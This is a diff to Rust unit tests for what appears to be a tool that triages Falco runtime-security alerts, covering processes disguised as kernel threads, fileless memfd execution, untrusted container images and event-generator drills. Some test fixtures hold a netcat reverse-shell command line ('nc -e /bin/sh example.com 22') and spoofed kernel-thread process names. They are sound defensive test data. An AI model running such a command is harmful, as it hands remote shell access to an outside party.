@@ -89,6 +89,7 @@ fn a_disguise_is_at_least_medium_and_called_one() {
     for fields in [
         r#""proc.pname":"bash","container.image.repository":"docker.io/calico/node""#,
         r#""proc.pname":"calico-node","container.image.repository":"evil/shop""#,
+        r#""proc.pname":"calico-node","container.image.repository":"registry.example.net/calico/node""#,
         r#""proc.pname":"calico-node","container.image.repository":"docker.io/calico/node","evt.arg.flags":"EXE_UPPER_LAYER""#,
     ] {
         let (analysis, text) = calico(fields);
@@ -114,4 +115,65 @@ fn no_placeholder_is_left_and_no_value_leaves_its_quotes() {
         })
         .count();
     assert_eq!(html, 0, "{text}");
+}
+
+/// The analysis of an alert of a rule that nobody knows, in a container.
+fn unknown(fields: &str) -> cadge::analysis::Analysis {
+    let text = format!(
+        r#"{{"rule":"Our own rule","priority":"Warning","time":"2026-03-02T09:40:25Z","source":"syscall","output_fields":{{"container.id":"c1b2c3d4e5f6","evt.type":"execve",{fields}}}}}"#
+    );
+    explain(&decode(&text)[0]).0
+}
+
+#[test]
+fn a_name_of_the_kernel_is_a_disguise_wherever_a_program_is_behind_it() {
+    for fields in [
+        r#""proc.name":"[kworker/0:1]","proc.cmdline":"[kworker/0:1]""#,
+        r#""proc.name":"kthreadd","proc.exepath":"/var/lib/.x/kthreadd","proc.cmdline":"kthreadd -c x""#,
+        r#""proc.name":"bash","proc.exepath":"/bin/bash","proc.cmdline":"[rcu_sched] -i""#,
+    ] {
+        let analysis = unknown(fields);
+        assert!(analysis.assessment.level >= Level::High, "{fields}: {:?}", analysis.assessment);
+        let says = |reason: &cadge::analysis::Reason| reason.says.contains("disguise");
+        assert!(analysis.assessment.reasons.iter().any(says), "{fields}");
+    }
+    let usual = unknown(r#""proc.name":"worker","proc.exepath":"/app/worker","proc.cmdline":"worker --queue a""#);
+    assert_eq!(usual.assessment.level, Level::Medium);
+}
+
+#[test]
+fn a_drill_is_proven_by_the_project_s_own_image_only() {
+    let drill = |image: &str| {
+        unknown(&format!(
+            r#""proc.name":"nc","proc.cmdline":"nc -e /bin/sh example.com 22","proc.pname":"event-generator","container.image.repository":"{image}""#
+        ))
+    };
+    for image in ["falcosecurity/event-generator", "docker.io/falcosecurity/event-generator"] {
+        assert_eq!(drill(image).assessment.level, Level::Benign, "{image}");
+    }
+    for image in [
+        "registry.example.net/falcosecurity/event-generator",
+        "evil/event-generator",
+        "quay.io/x/falcosecurity/event-generator",
+        "docker.io/falcosecurity-x/event-generator",
+    ] {
+        let analysis = drill(image);
+        assert!(analysis.assessment.level >= Level::Medium, "{image}");
+        assert_eq!(analysis.assessment.known, None, "{image}");
+    }
+}
+
+#[test]
+fn no_age_is_told_for_the_host_and_a_foreign_image_spares_nothing_among_the_applications() {
+    let host = r#"{"rule":"Fileless execution via memfd_create","priority":"Critical","time":"2026-03-02T09:40:25Z","source":"syscall","output_fields":{"container.id":"host","container.start_ts":1772436025000000000,"evt.type":"execve","evt.res":"SUCCESS","evt.arg.flags":"EXE_WRITABLE|EXE_FROM_MEMFD","proc.name":"x","proc.exepath":"memfd:x","proc.cmdline":"x"}}"#;
+    let (analysis, text) = explain(&decode(host)[0]);
+    assert!(!text.contains("The container"), "{text}");
+    assert!(analysis.steps.iter().any(|step| step.id == "memfd-noexec"));
+    let spared = |namespace: &str| {
+        let fields = format!(
+            r#""proc.name":"sh","proc.cmdline":"sh -c id","proc.pname":"java","container.image.repository":"registry.example.net/calico/node","k8s.pod.name":"x-1","k8s.ns.name":"{namespace}""#
+        );
+        !unknown(&fields).steps.iter().any(|step| step.phase == Phase::Contain)
+    };
+    assert!(spared("kube-system") && !spared("default"));
 }
